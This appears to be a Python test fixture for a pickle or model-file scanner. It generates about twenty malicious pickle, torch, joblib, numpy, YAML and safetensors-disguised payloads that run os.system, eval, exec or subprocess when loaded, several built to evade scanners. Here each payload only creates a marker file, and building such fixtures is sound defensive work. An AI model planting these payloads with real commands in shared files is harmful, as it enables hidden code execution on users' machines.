"""Files that run code when they are read carelessly: each would make a file called `marker`."""

from __future__ import annotations

import builtins
import functools
import importlib
import io
import os
import pickle
import pkgutil
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

from hostile.forged import npy, whole


class Call:
    """An object whose pickle is a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


class State(Call):
    """A call whose state is set afterwards: a `functools.partial` that becomes another one."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (functools.partial, (print,), (*self.call, {}, None))


def code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def global_by_opcode(module: str, name: str, argument: str) -> bytes:
    """Protocol 4, the name given with dots, as only the newer protocols allow."""
    texts = [b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name, argument)]
    return b"\x80\x04" + texts[0] + texts[1] + b"\x93" + texts[2] + b"\x85R."


def resolved(marker: Path) -> bytes:
    """pkgutil.resolve_name finds os.system at reading time: no scanner sees its name as a global."""
    inner = pickle.dumps(Call(pkgutil.resolve_name, "os:system"), protocol=2)[2:-1]
    return b"\x80\x02" + inner + pickle.dumps(f"touch '{marker}'", protocol=2)[2:-1] + b"\x85R."


def torch_zip(payload: bytes) -> bytes:
    """A checkpoint as torch writes it, whose pickle is another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in (("data.pkl", payload), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"archive/{name}", content)
    return buffer.getvalue()


def torch_script(marker: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("constants.pkl", "data.pkl", "code/__torch__.py"):
            archive.writestr(f"archive/{name}", pickle.dumps(Call(eval, code(marker))))
    return buffer.getvalue()


def checkpoint_around(evil: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save({"state_dict": {"a": torch.zeros(2), "b": evil}}, buffer)
    return buffer.getvalue()


def joblib_like(marker: Path) -> bytes:
    """As joblib does it: a pickle that is interrupted by the raw bytes of arrays."""
    array = np.lib.format.magic(1, 0) + bytes(64)
    return pickle.dumps({"w": Call(exec, code(marker))}, protocol=3)[:-1] + b"." + array


def payloads(marker: Path) -> dict[str, bytes]:
    """Every kind by name."""
    touch = f"touch '{marker}'"
    system = pickle.dumps(Call(os.system, touch))
    objects = np.array([Call(os.system, touch)], object)
    archive = io.BytesIO()
    np.savez(archive, images=objects, labels=objects, allow_pickle=True)
    return {
        "os.system": system,
        "text protocol": f'cos\nsystem\n(S"{touch}"\ntR.'.encode(),
        "builtins.eval": pickle.dumps(Call(builtins.eval, code(marker))),
        "builtins.exec": pickle.dumps(Call(builtins.exec, code(marker)), protocol=2),
        "pkgutil.resolve_name": resolved(marker),
        "importlib": pickle.dumps(Call(functools.reduce, getattr, Call(importlib.import_module, "os"))),
        "subprocess": pickle.dumps(Call(subprocess.check_call, ["touch", str(marker)])),
        "nested": pickle.dumps({"a": [({"b": Call(os.system, touch)},)]}),
        "state": pickle.dumps(State(os.system, (touch,))),
        "dotted name": global_by_opcode("torch.serialization", "os.system", touch),
        "joblib": joblib_like(marker),
        "torch zip": torch_zip(system),
        "torch zip around tensors": checkpoint_around(Call(os.system, touch)),
        "torch script": torch_script(marker),
        "pickle before a zip": system + torch_zip(pickle.dumps({})),
        "zip before a pickle": torch_zip(system) + system,
        "legacy torch": b"".join(
            pickle.dumps(part) for part in (0x1950A86A20F9469CFC6C, 1001, {}, Call(os.system, touch))
        ),
        "object array": whole(objects, allow_pickle=True),
        "object arrays": archive.getvalue(),
        "array of a lying type": npy((1,), "|O", pickle.dumps([Call(os.system, touch)])),
        "yaml tag": f'!!python/object/apply:os.system ["{touch}"]'.encode(),
        "safetensors around a pickle": struct.pack("<Q", len(system)) + system,
    }


LIVE = (  # what plain unpickling really runs: the others need numpy, torch or yaml to be careless
    "os.system", "text protocol", "builtins.eval", "builtins.exec", "pkgutil.resolve_name", "subprocess", "nested",
    "dotted name", "joblib", "pickle before a zip",
)  # fmt: skip
